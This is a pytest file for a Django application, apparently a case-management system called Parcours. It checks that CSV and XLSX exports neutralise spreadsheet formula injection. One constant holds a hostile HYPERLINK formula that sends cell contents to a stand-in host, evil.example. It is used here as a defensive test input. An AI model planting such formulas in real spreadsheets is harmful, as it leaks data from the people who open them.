"""Every CSV and XLSX Parcours writes is safe to open in a spreadsheet (OWASP CSV injection)."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from parcours.instruments.models import Answer, Response
from parcours.reports.models import Round
from parcours.spreadsheets import safe_cell, stream_table
from tests.reports.test_outputs import twelve  # noqa: F401 (fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_is_defused(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-3, 4.5, 0, None, "", "Amina", "3-4 years"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def _formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [c.value for s in book.worksheets for row in s.iter_rows() for c in row]


def table_bytes(fmt, header, rows) -> bytes:
    out = io.BytesIO()
    stream_table(fmt, header, rows, out)
    return out.getvalue()


def test_the_table_writer_never_writes_a_formula():
    rows = [["P-1", HOSTILE, -2, "@SUM(A1:A9)"], ["P-2", "+32 2 738 08 18", 7, "ok"]]
    data = table_bytes("xlsx", ["case", "a", "b", "c"], rows)
    assert _formulas(data) == []
    cells = _cells(data)
    assert "'" + HOSTILE in cells and -2 in cells and 7 in cells
    text = table_bytes("csv", ["case", "a", "b", "c"], rows).decode()
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[1][1] == "'" + HOSTILE and parsed[2][1] == "'+32 2 738 08 18"


def test_the_report_xlsx_and_csv_defuse_a_hostile_round_name(
    twelve,  # noqa: F811
    coordinator,
    login,
    project,
):
    hostile = Round.objects.create(
        project=project,
        name=HOSTILE,
        starts_on="2026-01-01",
        ends_on="2026-12-31",
        created_by=coordinator,
    )
    client = login(coordinator)
    query = {"projects": [project.pk], "round": hostile.pk}
    xlsx = client.get(reverse("reports:cohort"), {**query, "format": "xlsx"}).content
    assert _formulas(xlsx) == []
    assert "'" + HOSTILE in _cells(xlsx)
    text = client.get(reverse("reports:cohort"), {**query, "format": "csv"}).content.decode()
    assert all(not cell.startswith("=") for row in csv.reader(io.StringIO(text)) for cell in row)
    assert "'" + HOSTILE in text.replace('""', '"')


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_responses_defuses_free_text(tmp_path, twelve, suffix):  # noqa: F811
    response = Response.objects.filter(family=twelve[0]).get()
    Answer.objects.create(response=response, code="p16_notes", text=HOSTILE)
    out = tmp_path / f"out.{suffix}"
    call_command(
        "export_responses",
        "--instrument",
        "client_summary_sheet",
        "--project",
        "pt",
        "-o",
        str(out),
        stdout=io.StringIO(),
    )
    if suffix == "xlsx":
        assert _formulas(out.read_bytes()) == []
        assert "'" + HOSTILE in _cells(out.read_bytes())
    else:
        notes = [row["p16_notes"] for row in csv.DictReader(out.open())]
        assert "'" + HOSTILE in notes


def test_the_evaluators_download_and_the_template_hold_no_formula(
    tmp_path,
    twelve,  # noqa: F811
    evaluator,
    login,
    project,
):
    query = {"project": project.pk, "instrument": "client_summary_sheet", "format": "xlsx"}
    assert _formulas(login(evaluator).get(reverse("reports:sheets"), query).getvalue()) == []
    out = tmp_path / "template.xlsx"
    call_command(
        "export_template", "--instrument", "baseline", "-o", str(out), stdout=io.StringIO()
    )
    assert _formulas(out.read_bytes()) == []
